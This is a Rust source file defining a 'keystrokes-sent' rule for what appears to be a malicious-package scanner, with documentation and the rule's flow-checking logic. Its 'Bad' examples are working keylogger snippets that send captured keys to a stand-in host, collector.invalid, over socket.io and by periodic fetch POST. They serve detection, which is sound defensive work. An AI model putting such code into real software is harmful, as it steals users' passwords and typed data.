//! # Keys that a person presses leave the machine
//!
//! What a listener to the keyboard hears reaches a host: one of the whole system, or one of a page for a host that
//! the package never names.
//!
//! ## Why it matters
//!
//! A key logger reads every password, whatever stores it.
//!
//! ## Known benign uses
//!
//! Hot-key libraries listen and compare. They send nothing.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { GlobalKeyboardListener } = require("node-global-key-listener");
//! const socket = require("socket.io-client")("http://collector.invalid:5000");
//! new GlobalKeyboardListener().addListener((event) => {
//!   socket.emit("key", event.name); //~ here
//! });
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! let typed = "";
//! document.addEventListener("keydown", (event) => { typed += event.key; });
//! setInterval(() => fetch("https://collector.invalid/k", { method: "POST", body: typed }), 5000); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { GlobalKeyboardListener } = require("node-global-key-listener");
//! exports.onHotKey = (name, act) => new GlobalKeyboardListener().addListener((event) => event.name === name && act());
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const field = document.querySelector("#search");
//! field.addEventListener("input", (event) => fetch("/search?q=" + event.target.value));
//! document.addEventListener("keydown", (event) => event.key === "Escape" && field.blur());
//! ```
//!
//! ## References
//!
//! - Socket: HexEval (June 2025)

use crate::prelude::*;

/// Keys that a person presses leave the machine.
pub struct KeystrokesSent;

impl Rule for KeystrokesSent {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "keystrokes-sent",
            title: "Keys that a person presses leave the machine",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1056.001",
            covers: &["collect-keylog"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for flow in facts.flows(|source| *source == Source::Keystrokes, Sink::leaves_machine) {
            if flow.trigger.runs_unasked() || flow.trigger != Trigger::Dormant && flow.sink.host().is_some() {
                found.flow(flow);
            }
        }
        for flow in facts.flows(|source| *source == Source::PageInput, Sink::leaves_machine) {
            let is_unsaid = flow.sink.host().is_some_and(|host| !facts.says_host(host));
            if is_unsaid && flow.trigger != Trigger::Dormant {
                found.flow(flow);
            }
        }
    }
}
